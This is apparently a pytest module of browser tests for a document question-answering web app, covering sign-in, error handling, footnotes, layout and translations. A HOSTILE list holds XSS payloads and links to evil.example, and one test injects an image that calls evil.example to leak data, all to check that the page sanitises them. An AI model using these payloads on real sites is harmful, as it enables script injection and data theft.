"""The page in a real browser, over a scripted runtime: signing in, faults, hostile texts, narrow screens."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from typing import Any, Literal

import pytest
from pydantic import SecretStr
from support import scripted as scripts
from support.browser import Browser, open_browser
from support.scripted import CITATION, DONE, HAPPY, SOURCES, Hang, Scripted, running, scripted_app

from config.settings import AuthSettings
from server.answers import Candidate, Explanation, Outcome, Reranked, Token
from server.engines.models.errors import ModelUnavailable

REQUIRED = AuthSettings(mode="required", bootstrap_key=SecretStr("b" * 40), failed_logins=100_000)
HOSTILE = (
    "<img src=x onerror=wasRun()><script>wasRun()</script>",
    "<svg onload=wasRun()></svg>",
    "[click](javascript:wasRun())",
    "![see](https://evil.example/?leak=1)",
    '<a href="javascript:wasRun()" style="position:fixed">x</a>',
    "<iframe srcdoc='<script>parent.wasRun()</script>'></iframe>",
    "<form action=https://evil.example><button>go</button></form>",
    "\u202egnp.exe\u202c",
    '"><base href=https://evil.example/>',
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Start Chromium, once for all tests of the module."""
    with open_browser() as opened:
        yield opened


def app_of(*script: object, **options: Any) -> Scripted:
    return scripted_app(script or HAPPY, **options)


def test_a_key_lets_in_and_stays_in_the_tab(browser: Browser) -> None:
    made = app_of(auth=REQUIRED)
    key = made.runtime.api_keys.make("query", "documents:read")
    with running(made.app) as server, browser.page(server.url, refusals=(401,)) as page:
        page.tab.get_by_label("API key").fill("fn_wrong")
        page.tab.get_by_role("button", name="Sign in").click()
        page.tab.get_by_text("The server does not accept this key.").wait_for()
        page.tab.get_by_label("API key").fill(key)
        page.tab.get_by_role("button", name="Sign in").click()
        page.ask("Which port?")
        assert "Set the port" in page.tab.inner_text(".prose")
        assert page.tab.evaluate("Object.values(sessionStorage)").count(key) == 1
        assert key not in str(page.tab.evaluate("[Object.values(localStorage), document.cookie, location.href]"))
        assert page.tab.get_by_role("button", name="Good answer").count() == 0  # the key may not give feedback
        page.tab.goto(f"{server.url}/#/documents")
        page.tab.get_by_role("button", name="Open Page 1").wait_for()
        assert page.tab.get_by_role("button", name="Delete Page 1").count() == 0
        page.tab.get_by_role("button", name="Sign out").click()
        page.tab.get_by_label("API key").wait_for()
        assert page.tab.evaluate("sessionStorage.length") == 0


def test_what_goes_wrong_is_said_and_can_be_tried_again(browser: Browser) -> None:
    made = app_of(ModelUnavailable("the model cannot be reached", retry_after=7))
    with running(made.app) as server, browser.page(server.url, refusals=(503,)) as page:
        page.tab.fill(".composer textarea", "Which port?")
        page.tab.keyboard.press("Enter")
        trouble = page.tab.get_by_role("alert")
        trouble.wait_for()
        assert "503 model-unavailable" in trouble.inner_text()
        assert "Try again in 7 seconds." in trouble.inner_text()
        made.answers.script = HAPPY
        trouble.get_by_role("button", name="Try again").click()
        page.tab.locator("article[aria-busy=false] .prose").wait_for()
        assert "Set the port" in page.tab.inner_text(".prose")
        assert page.tab.locator("article").count() == 1


def test_a_server_that_is_gone_is_said(browser: Browser) -> None:
    with running(app_of().app) as server, browser.page(server.url) as page:
        page.tab.locator(".composer textarea").wait_for()
        page.offline = True
        page.tab.context.set_offline(True)
        page.tab.fill(".composer textarea", "Which port?")
        page.tab.keyboard.press("Enter")
        page.tab.get_by_text("The server cannot be reached").wait_for()
        page.tab.context.set_offline(False)
        page.tab.get_by_role("button", name="Try again").click()
        page.tab.locator(".prose").wait_for()


def test_an_answer_can_be_stopped_and_its_text_stays(browser: Browser) -> None:
    with running(app_of(SOURCES, Token("Half of "), Hang()).app) as server, browser.page(server.url) as page:
        page.tab.fill(".composer textarea", "Which port?")
        page.tab.keyboard.press("Enter")
        page.tab.get_by_text("Half of").wait_for()
        page.tab.get_by_role("button", name="Stop").click()
        page.tab.get_by_text("Stopped.").wait_for()
        assert "Half of" in page.tab.inner_text(".prose")


@pytest.mark.parametrize("kept", [True, False])
def test_what_is_stopped_before_the_server_has_answered_is_ended_there(browser: Browser, kept: bool) -> None:
    made = app_of(2.0, SOURCES, Token("Half of "), Hang(), streams={"grace": 120})
    path = "/#/" if kept else "/#/?keep=0"
    with running(made.app) as server, browser.page(server.url, path=path) as page:
        page.tab.fill(".composer textarea", "Which port?")
        page.tab.keyboard.press("Enter")
        with page.tab.expect_response(lambda response: response.request.method == "DELETE") as told:
            page.tab.get_by_role("button", name="Stop").click()
            page.tab.get_by_text("Stopped.").wait_for()  # at once, whatever the server does
            assert not made.answers.closed.is_set()
            assert made.answers.given == 0
        assert told.value.status == 204
        assert made.answers.closed.wait(5), "the model goes on"
        made.answers.script = HAPPY
        page.ask("And which host?")
        assert "Set the port" in page.tab.inner_text("article:last-of-type .prose")


def test_who_asks_while_a_stopped_answer_is_still_being_ended_waits_for_that(browser: Browser) -> None:
    busy = {"type": "/problems/conversation-busy", "title": "The conversation is busy", "status": 409}
    left = [busy, busy]

    def refuse(route: Any) -> None:
        if left:
            route.fulfill(status=409, content_type="application/problem+json", body=json.dumps(left.pop()))
        else:
            route.continue_()

    with running(app_of().app) as server, browser.page(server.url, refusals=(409,)) as page:
        page.tab.route("**/chat/stream", refuse)
        page.ask("Which port?")
        assert "Set the port" in page.tab.inner_text(".prose")
        assert left == []


def test_a_footnote_shows_its_passage_to_the_pointer_and_to_the_keyboard(browser: Browser) -> None:
    with running(app_of().app) as server, browser.page(server.url) as page:
        page.ask("Which port?")
        footnote = page.tab.get_by_role("button", name="Footnote 1: Configuration")
        footnote.hover()
        passage = page.tab.locator(".passage")
        passage.wait_for()
        assert "Set FOOTNOTE_SERVER__PORT" in passage.inner_text()
        page.tab.mouse.move(2, 2)
        passage.wait_for(state="detached")
        page.tab.keyboard.press("Tab")
        page.tab.evaluate("document.activeElement.blur()")
        for _ in range(40):
            page.tab.keyboard.press("Tab")
            if page.tab.evaluate("document.activeElement.className") == "footnote":
                break
        passage.wait_for()
        page.tab.keyboard.press("Escape")
        passage.wait_for(state="detached")


def test_in_a_low_window_the_header_scrolls_away_and_a_passage_leaves_its_footnote_free(browser: Browser) -> None:
    long = "\n\n".join(f"Set the port [1], as paragraph {n} says." for n in range(9))
    made = app_of(SOURCES, Token(long), DONE)
    with running(made.app) as server, browser.page(server.url, width=320, height=200) as page:
        page.ask("Which port?")
        footnote = page.tab.locator(".footnote").nth(4)
        footnote.scroll_into_view_if_needed()
        assert page.tab.locator(".top").bounding_box()["y"] < -90
        footnote.hover()
        passage = page.tab.locator(".passage")
        passage.wait_for()
        one, other = footnote.bounding_box(), passage.bounding_box()
        assert one["y"] >= other["y"] + other["height"] or other["y"] >= one["y"] + one["height"]
        footnote.click()
        page.tab.locator(".viewer .text").wait_for()


def test_a_passage_of_markdown_is_shown_without_its_signs(browser: Browser) -> None:
    text = "Set `FOOTNOTE_PORT` to **change** it, 2 ** 3.\n\n```bash\nexport A=1\n```"
    citation = replace(CITATION, text=text)
    made = app_of(replace(SOURCES, citations=(citation,)), Token('It says "`FOOTNOTE_PORT` to" [1].'), DONE)
    with running(made.app) as server, browser.page(server.url) as page:
        page.ask("Which port?")
        page.tab.locator(".footnote").hover()
        passage = page.tab.locator(".passage blockquote")
        passage.wait_for()
        assert passage.inner_text().strip() == "Set FOOTNOTE_PORT to change it, 2 ** 3.\n\nexport A=1"
        assert passage.locator("mark").inner_text() == "FOOTNOTE_PORT to"


def test_the_sign_of_a_sum_is_marked_with_it(browser: Browser) -> None:
    citation = replace(CITATION, text="| North crane | 85 € |\n| South crane | 190 € |\n| Mobile crane | 420 € |")
    answer = Token("Crane: South crane; Fee: 190 € [1].")
    with (
        running(app_of(replace(SOURCES, citations=(citation,)), answer, DONE).app) as server,
        browser.page(server.url) as page,
    ):
        page.ask("What does it cost?")
        page.tab.locator(".footnote").hover()
        assert page.tab.locator(".passage mark").inner_text() == "South crane | 190 €"


def test_options_are_in_the_address_and_in_the_request(browser: Browser) -> None:
    made = app_of()
    with running(made.app) as server, browser.page(server.url, path="/#/?k=3&mode=keyword") as page:
        page.tab.get_by_role("button", name="keyword · 3 passages").click()
        page.tab.get_by_label("Keep as a conversation").uncheck()
        page.tab.get_by_role("button", name="Add a filter").click()
        page.tab.get_by_label("Key", exact=True).fill("year")
        page.tab.get_by_label("Value").fill("2024")
        page.tab.get_by_label("Value").press("Tab")
        page.tab.get_by_role("button", name="Close").click()
        page.ask("Which port?")
        assert "keep=0" in page.tab.url
        (asked,) = made.answers.questions
        assert (asked.k, asked.mode) == (3, "keyword")
        assert made.answers.turns == []
        told = str(asked.filters)
        assert "year" in told
        assert "2024" in told


def test_an_empty_page_suggests_questions_and_asks_one_at_a_click(browser: Browser) -> None:
    made = app_of()
    with running(made.app) as server, browser.page(server.url) as page:
        suggested = page.tab.locator(".suggestion")
        suggested.nth(2).wait_for()
        assert page.seriously_wrong() == []
        suggested.nth(1).click()
        page.tab.locator("article[aria-busy=false]").wait_for()
        assert made.answers.questions[0].question == "What do the documents say about “Port of Page 2”?"
        assert suggested.count() == 0


def test_a_follow_up_belongs_to_the_conversation(browser: Browser) -> None:
    made = app_of()
    with running(made.app) as server, browser.page(server.url) as page:
        page.ask("Which port?")
        page.ask("And the host?")
        assert page.tab.locator("article").count() == 2
        first, second = made.runtime.conversations.messages_seen
        assert first.conversation_id is None
        assert second.conversation_id == scripts.CONVERSATION.id
        assert f"#/c/{scripts.CONVERSATION.id}" in page.tab.url


def test_nothing_of_a_document_or_a_model_runs(browser: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    hostile = " ".join(HOSTILE)
    citation = replace(CITATION, title=hostile, heading=hostile, source=hostile, text=hostile)
    sources = replace(SOURCES, citations=(citation,), sources=(hostile,))
    done = replace(DONE, citations=(replace(citation, cited=True),), sources=(hostile,), model=hostile)
    text = (
        "\n\n".join(f"{each} [1]" for each in HOSTILE)
        + f"\n\n```html\n{hostile}\n```\n\n| a |\n|---|\n| {HOSTILE[0]} |\n"
    )
    known = [replace(each, title=hostile, source=hostile) for each in scripts.KNOWN]
    monkeypatch.setattr(scripts, "KNOWN", known)
    monkeypatch.setattr(scripts, "CONVERSATION", replace(scripts.CONVERSATION, title=hostile))
    made = app_of(sources, *(Token(piece) for piece in text.split(" ")), done)
    with running(made.app) as server, browser.page(server.url) as page:
        page.ask(HOSTILE[0])
        for name in ("img", "script", "iframe", "form", "base", "svg", "[style]", "[onerror]"):
            assert page.tab.locator(f".prose {name}").count() == 0, name
        links = page.tab.eval_on_selector_all(".prose a", "all => all.map((each) => [each.href, each.rel])")
        assert links
        assert all(href.startswith("https:") for href, _ in links if href)
        assert {rel for _, rel in links} == {"noopener noreferrer"}
        page.tab.locator(".footnote").first.hover()
        page.tab.locator(".passage").wait_for()
        page.tab.locator(".why summary").click()
        page.tab.goto(f"{server.url}/#/documents")
        page.tab.locator(".list tbody tr").first.wait_for()
        page.tab.locator(".list tbody .link").first.click()
        page.tab.locator(".text").wait_for()
        assert page.tab.locator("main img, main iframe, main form:not(.url), aside iframe").count() == 0


@pytest.mark.parametrize(
    "deed",
    [
        "document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.example/leak'}))",
        "document.body.setAttribute('style', 'color: red')",
        "try { document.body.innerHTML = '<b>written</b>' } catch {}",
        "setTimeout(() => { throw new Error('a bug') })",
        "console.error('a complaint')",
    ],
)
def test_what_must_not_happen_is_noticed(browser: Browser, deed: str) -> None:
    with running(app_of().app) as server, pytest.raises(AssertionError), browser.page(server.url) as page:  # noqa: PT012
        page.tab.locator(".composer textarea").wait_for()
        page.tab.evaluate(deed)
        page.tab.wait_for_timeout(100)


def test_why_tells_what_became_of_each_passage(browser: Browser) -> None:
    def candidate(outcome: Outcome, citation: int | None, title: str, place: int) -> Candidate:
        scores = {"dense": 0.5, "fused": 0.02}
        ranks = {"dense": place + 2, "fused": place}
        return Candidate(outcome, citation, f"doc-{place}", "s.md", title, None, None, place, 0, 9, 0.02, scores, ranks)

    found = (
        candidate("given", 1, "Configuration", 1),
        candidate("duplicate", 1, "A copy", 2),
        candidate("below_min_score", None, HOSTILE[0], 3),
    )
    made = app_of(replace(SOURCES, explanation=Explanation(found, omitted=4)), Token("Set it [1]."), DONE)
    with running(made.app) as server, browser.page(server.url) as page:
        page.ask("Which port?")
        assert made.answers.questions[0].explain
        page.tab.locator(".why summary").click()
        rows = page.tab.locator(".scores tbody tr")
        assert [each.split("\n")[0] for each in rows.all_inner_texts()] != []
        assert "#3" in rows.nth(0).inner_text()
        assert "cited" in rows.nth(0).inner_text()
        assert "repeats 1" in rows.nth(1).inner_text()
        assert "not similar enough" in rows.nth(2).inner_text()
        page.tab.get_by_text("6 more passages were found").wait_for()
        assert page.seriously_wrong() == []
        page.tab.get_by_role("button", name="A copy").click()
        page.tab.locator(".viewer h2", has_text="Page 2").wait_for()


def test_the_page_of_all_routes_loads_nothing_from_other_hosts(browser: Browser) -> None:
    with running(app_of().app) as server, browser.page(server.url, path="/docs") as page:
        page.tab.locator("#operations-asking-query").click()
        page.tab.get_by_role("button", name="Try it out").click()
        page.tab.get_by_role("button", name="Execute").click()
        page.tab.locator(".live-responses-table .response-col_status", has_text="200").wait_for()


def test_deleting_waits_for_second_thoughts(browser: Browser) -> None:
    made = app_of()
    with running(made.app) as server, browser.page(server.url, path="/#/documents") as page:
        sent: list[str] = []
        page.tab.on("request", lambda request: sent.append(request.url) if request.method == "DELETE" else None)
        page.tab.get_by_role("button", name="Delete Page 1").click()
        page.tab.get_by_role("button", name="Undo").click()
        page.tab.get_by_role("button", name="Delete Page 2").click()
        with page.tab.expect_response(lambda response: response.request.method == "DELETE") as answered:
            pass
        assert answered.value.status == 204
        page.tab.get_by_role("button", name="Open Page 2").wait_for(state="detached")
        assert page.tab.get_by_role("button", name="Open Page 1").count() == 1
        assert [url.partition("?")[0] for url in sent] == [f"{server.url}/documents/doc-2"]


def test_the_list_is_searched_and_sorted_and_the_address_says_so(browser: Browser) -> None:
    with running(app_of().app) as server, browser.page(server.url, path="/#/documents") as page:
        titles = page.tab.locator(".list tbody .link")
        titles.nth(2).wait_for()
        page.tab.get_by_label("Search titles and sources").fill("2")
        titles.nth(1).wait_for(state="detached")
        assert titles.all_inner_texts() == ["Page 2"]
        page.tab.get_by_label("Search titles and sources").fill("nothing of it")
        page.tab.get_by_text("No document has “nothing of it” in its title or source.").wait_for()
        page.tab.get_by_label("Search titles and sources").fill("")
        titles.nth(2).wait_for()
        for order, sort in (("ascending", "title"), ("descending", "-title")):
            with page.tab.expect_request(lambda request, sort=sort: f"sort={sort}&" in request.url):
                page.tab.get_by_role("button", name="Title").click()
            page.tab.locator(f"th[aria-sort={order}]").wait_for()
            assert f"sort={sort}" in page.tab.url


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(browser: Browser, scheme: Literal["light", "dark"]) -> None:
    text = "# One\n\nSet the **port** [1].\n\n```bash\nexport A=1 # here\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    made = app_of(SOURCES, Token(text), DONE)
    with running(made.app) as server, browser.page(server.url, scheme=scheme) as page:
        page.tab.locator(".composer textarea").wait_for()
        assert page.seriously_wrong() == []
        page.ask("Which port?")
        page.tab.locator(".why summary").click()
        page.tab.locator(".hljs-comment").wait_for()
        assert page.seriously_wrong() == []
        page.tab.get_by_role("button", name="hybrid").click()
        assert page.seriously_wrong() == []
        page.tab.get_by_role("button", name="Close").click()
        page.tab.goto(f"{server.url}/#/documents")
        page.tab.get_by_role("button", name="Open Page 1").click()
        page.tab.locator(".text").wait_for()
        assert page.seriously_wrong() == []
    signing = app_of(auth=REQUIRED)
    with running(signing.app) as server, browser.page(server.url, scheme=scheme, refusals=(401,)) as page:
        page.tab.get_by_label("API key").wait_for()
        assert page.seriously_wrong() == []


@pytest.mark.parametrize("width", [1280, 390])
def test_the_page_itself_never_scrolls(browser: Browser, width: int) -> None:
    """What is long scrolls within its view: the header stays where it is."""
    long = "\n\n".join(f"Set the port [1], as paragraph {n} says." for n in range(30))
    made = app_of(SOURCES, Token(long), DONE)
    with running(made.app) as server, browser.page(server.url, width=width, refusals=(503,)) as page:

        def taller() -> int:
            return int(page.tab.evaluate("document.documentElement.scrollHeight - innerHeight"))

        for question in ("Which port?", "And the host?", "And the rest?"):
            page.ask(question)
            assert taller() <= 0
        page.tab.locator(".footnote").first.click()
        page.tab.locator(".viewer .text").wait_for()
        assert taller() <= 0
        page.tab.goto(f"{server.url}/#/documents")
        many = [{"name": f"{n}.txt", "mimeType": "text/plain", "buffer": b"A text."} for n in range(40)]
        page.tab.locator("input[type=file]").first.set_input_files(many)
        page.tab.locator(".uploads li").nth(39).wait_for()
        assert taller() <= 0
        parts = [f"operate/{each}" for each in ("health", "jobs", "usage", "keys", "tenants", "audit")]
        for view in (
            "collections",
            "collections/default",
            "quality",
            "quality?part=runs",
            "quality?part=feedback",
            *parts,
        ):
            page.tab.goto(f"{server.url}/#/{view}")
            page.tab.locator("main h1").wait_for()
            page.tab.wait_for_load_state("networkidle")
            assert taller() <= 0, view


def test_where_nothing_was_found_no_sources_are_named(browser: Browser) -> None:
    said = "I found nothing about this."
    made = app_of(SOURCES, Token(said), replace(DONE, finish_reason="no_context", citations=()))
    with running(made.app) as server, browser.page(server.url) as page:
        page.ask("Which port?")
        page.tab.get_by_text(said).wait_for()
        assert page.tab.locator(".sources").count() == 0


@pytest.mark.parametrize("width", [390, 320])
def test_on_a_narrow_screen_nothing_sticks_out_and_a_tap_shows_the_passage(browser: Browser, width: int) -> None:
    long = (
        "Set the port [1]. " + "x" * 300 + "\n\n| " + " | ".join("abcdefgh" for _ in range(12)) + " |\n|" + "---|" * 12
    )
    made = app_of(SOURCES, Token(long), DONE)
    phone = {"has_touch": True, "is_mobile": True}
    with running(made.app) as server, browser.page(server.url, width=width, height=844, **phone) as page:

        def sticks_out() -> int:
            boxes = "[document.documentElement, ...document.querySelectorAll('main, .viewer')]"
            return int(page.tab.evaluate(f"Math.max(...{boxes}.map((each) => each.scrollWidth - each.clientWidth))"))

        page.ask("Which port? " + "y" * 200)
        page.tab.locator(".why summary").click()
        assert sticks_out() <= 0
        page.tab.locator(".footnote").first.tap()
        page.tab.locator(".passage").wait_for()
        assert sticks_out() <= 0
        page.tab.mouse.click(4, 200)
        page.tab.goto(f"{server.url}/#/documents")
        page.tab.get_by_role("button", name="Open Page 1").click()
        page.tab.locator(".text").wait_for()
        assert sticks_out() <= 0
        assert page.tab.locator(".viewer").bounding_box()["width"] == width


def test_german_browsers_get_german(browser: Browser) -> None:
    with running(app_of().app) as server, browser.page(server.url, language="de-AT") as page:
        page.tab.get_by_role("heading", name="Fragen Sie Ihre Dokumente").wait_for()
        assert page.tab.evaluate("document.documentElement.lang") == "de"


def test_each_language_has_every_string(browser: Browser) -> None:
    names = """async (build) => {
        const names = (strings) => Object.entries(strings).flatMap(([name, value]) =>
            typeof value === "object" ? names(value).map((inner) => `${name}.${inner}`) : [`${name}: ${typeof value}`]);
        const files = await Promise.all(["en", "de"].map((language) => import(`${build}/strings/${language}.js`)));
        return files.map((file) => names(file.default).sort());
    }"""
    with running(app_of().app) as server, browser.page(server.url) as page:
        build = page.tab.get_attribute("script", "src").partition("/js/")[0]
        english, german = page.tab.evaluate(names, build)
        assert english == german
        assert len(english) > 100


def test_why_tells_in_the_readers_language_that_no_model_was_asked(browser: Browser) -> None:
    reranked = Reranked(applied=False, model="m", candidates=1, reason="circuit-open")
    quoted = replace(DONE, finish_reason="extractive", model="extractive", usage=None)
    with (
        running(app_of(replace(SOURCES, rerank=reranked), Token("Set it [1]."), quoted).app) as server,
        browser.page(server.url, language="de-DE") as page,
    ):
        page.ask("How do I change the port?")
        page.tab.get_by_text("Warum diese Antwort").click()
        facts = page.tab.locator(".why dl").inner_text()
        assert "keines: aus den Dokumenten zitiert" in facts
        assert "nicht angewandt: zu oft gescheitert, pausiert" in facts
        assert "extractive" not in facts
